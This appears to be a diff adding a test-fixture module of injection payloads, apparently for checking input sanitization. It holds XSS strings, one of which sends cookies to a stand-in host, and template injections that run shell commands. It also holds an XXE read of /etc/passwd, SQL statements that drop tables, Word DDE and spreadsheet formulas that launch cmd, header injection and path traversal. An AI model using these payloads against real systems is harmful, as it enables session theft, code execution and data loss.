@@ -1,0 +1,177 @@
+"""What somebody could type to have it run: into a page, a template, a database, a log, a header, a Word file. Each is distinct, and typed everywhere."""
+
+from __future__ import annotations
+
+RUN = "alert(1)"
+_HANDLERS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter")
+_TAGS = ("img", "svg", "body", "input", "details", "video", "audio", "marquee", "math", "iframe")
+_SCHEMES = (
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "java\tscript:alert(1)",
+    "java\nscript:alert(1)",
+    " javascript:alert(1)",
+    "&#106;avascript:alert(1)",
+    "&#x6A;avascript&colon;alert(1)",
+    "vbscript:msgbox(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "//mal.example/x",
+    "/\\mal.example/x",
+)
+
+SCRIPTS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT>alert(1)</SCRIPT>",
+    "<script src=//mal.example/x.js></script>",
+    "<script/x>alert(1)</script >",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "</script><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "</option></select><script>alert(1)</script>",
+    "</svg><script>alert(1)</script>",
+    "--><script>alert(1)</script>",
+    "]]><script>alert(1)</script>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<noscript><p title='</noscript><script>alert(1)</script>'>",
+    "<template><script>alert(1)</script></template>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
+    "<script type=module>import('//mal.example/x')</script>",
+    "<script>fetch('//mal.example/'+document.cookie)</script>",
+]
+QUOTES = [
+    f'{close}{space}{handler}="{RUN}" autofocus x={close}'
+    for close, space in (('"', " "), ("'", " "), ('">', "<img src=x "), ("'>", "<img src=x "))
+    for handler in _HANDLERS[:5]
+]
+ELEMENTS = [f"<{tag} src=x {handler}={RUN}>" for tag, handler in zip(_TAGS * 2, _HANDLERS * 3, strict=False)] + [
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
+    "<svg><use href=data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=></svg>",
+    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
+    "<svg><style>*{background:url(//mal.example)}</style></svg>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<math href=javascript:alert(1)>x</math>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=//mal.example/x.swf>",
+    "<applet code=x></applet>",
+    "<base href=//mal.example/>",
+    "<base target=_blank>",
+    "<meta http-equiv=refresh content='0;url=//mal.example'>",
+    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "<link rel=stylesheet href=//mal.example/x.css>",
+    "<link rel=prefetch href=//mal.example>",
+    "<style>@import '//mal.example/x.css';</style>",
+    "<style>body{background:url(//mal.example/x.png)}</style>",
+    "<p style='background:url(//mal.example/x.png)'>x</p>",
+    "<div style=position:fixed;inset:0>x</div>",
+    "<form action=//mal.example><input name=q><button>ok</button></form>",
+    "<button formaction=//mal.example form=capture>ok</button>",
+    "<input type=hidden name=csrf_token value=x>",
+    "<input name=lecteurs_ value=public checked>",
+    "<textarea name=texte form=capture>x</textarea>",
+    "<select name=pour_><option selected>x</select>",
+    "<a href=//mal.example ping=//mal.example>x</a>",
+    "<a id=main name=main>x</a>",
+    "<img src=//mal.example/balise.png width=1 height=1>",
+    "<img srcset='//mal.example/1.png 1x'>",
+    "<picture><source srcset=//mal.example/1.png><img></picture>",
+    "<video poster=//mal.example/1.png></video>",
+    "<table background=//mal.example/1.png><tr><td>x</table>",
+    "<portal src=//mal.example></portal>",
+    "<dialog open>Session expirée</dialog>",
+    "<plaintext>",
+    "<xmp><script>alert(1)</script></xmp>",
+    "<isindex action=javascript:alert(1) type=image>",
+    "<frameset onload=alert(1)>",
+    "<!--<img src=x onerror=alert(1)>-->",
+    "<?xml-stylesheet href=//mal.example/x.css?>",
+    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
+    "<x contenteditable onblur=alert(1)>x</x>",
+    "<slot onslotchange=alert(1)></slot>",
+]
+MARKDOWN = [f"[x]({scheme})" for scheme in _SCHEMES] + [
+    f"<{_SCHEMES[0]}>",
+    "![x](//mal.example/1.png)",
+    "![x][y]\n\n[y]: //mal.example/1.png",
+    f"[x]: {_SCHEMES[0]}\n\n[x]",
+    '[x](https://ok.example "a" onclick=alert(1))',
+    '[x](https://ok.example"onclick="alert(1))',
+    "`<script>alert(1)</script>`",
+    "```\n<script>alert(1)</script>\n```",
+    "    <script>alert(1)</script>",
+    "> <img src=x onerror=alert(1)>",
+    "| <img src=x onerror=alert(1)> |\n|---|",
+    "- [ ] <svg onload=alert(1)>",
+    "<javascript:alert(1)>",
+    "https://mal.example/?q=<script>alert(1)</script>",
+]
+TEMPLATES = [
+    "{{7*7}}",
+    "{{ 7*'7' }}",
+    "{% print(7*7) %}",
+    "{%- for x in range(7) %}49{% endfor %}",
+    "{# 49 #}",
+    "{{config}}",
+    "{{config.items()}}",
+    "{{request.application.__globals__}}",
+    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
+    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "{{csrf_input()}}",
+    "{% include '/etc/passwd' %}",
+    "{% extends 'base.html' %}",
+    "${7*7}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+    "${{7*7}}",
+    "%(asctime)s %(name)s",
+    "{0.__class__} {}",
+    "$(id) `id` ; id | id && id",
+]
+DATABASE = [
+    "' OR '1'='1",
+    "'; DROP TABLE meeting; --",
+    '" UNION SELECT password_hash FROM account --',
+    "1); DELETE FROM contribution; --",
+    ":text ? @x $y",
+    "%", "_", "%%", "\\%", "[a-z]%",
+]  # fmt: skip
+WORD = [
+    '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }',
+    '{ DDE excel "feuille" }',
+    '{ INCLUDEPICTURE "http://mal.example/balise.png" \\d }',
+    '{ INCLUDETEXT "file:///c:/secret.docx" }',
+    '{ HYPERLINK "http://mal.example" }',
+    "=SUM(ABOVE)",
+    "=cmd|'/c calc'!A0",
+    "@SUM(1+1)*cmd|'/c calc'!A0",
+    '</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO</w:instrText></w:r><w:r><w:t>',
+    '<w:fldSimple w:instr=" DATE "/>',
+    '<w:hyperlink r:id="rId9"><w:r><w:t>x</w:t></w:r></w:hyperlink>',
+    '" TargetMode="External" Target="http://mal.example',
+    "&xxe; &amp; &#0; &#x1F;",
+    "<w:altChunk r:id='rId9'/>",
+]
+LINES = [
+    "\r\nSet-Cookie: pris=1",
+    "\r\n\r\n<script>alert(1)</script>",
+    "\x1b[31mrouge\x1b[0m",
+    "\x1b]0;titre\x07",
+    "2026-03-12 09:00:00 ERROR facilitation faux",
+    "\u2028\u2029 ligne",
+    "\u202eegnahcni\u202c",
+    "../../../etc/passwd",
+    "..\\..\\CON",
+    '"; filename="x.exe',
+]
+CORPUS: tuple[str, ...] = tuple(
+    dict.fromkeys([*SCRIPTS, *QUOTES, *ELEMENTS, *MARKDOWN, *TEMPLATES, *DATABASE, *WORD, *LINES])
+)
+WHOLE = "\n".join(CORPUS)
+"""All of them in one text, which a field of several lines takes at once."""
